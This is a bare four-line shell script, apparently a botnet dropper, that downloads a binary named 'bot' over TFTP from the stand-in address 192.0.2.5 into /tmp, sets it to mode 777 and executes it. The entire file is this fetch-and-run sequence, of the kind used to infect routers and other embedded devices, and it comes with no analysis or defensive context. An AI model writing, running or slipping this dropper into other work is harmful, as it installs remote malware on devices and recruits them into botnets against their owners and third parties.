#!/bin/sh
tftp -g -r bot -l /tmp/bot 192.0.2.5
chmod 777 /tmp/bot
/tmp/bot
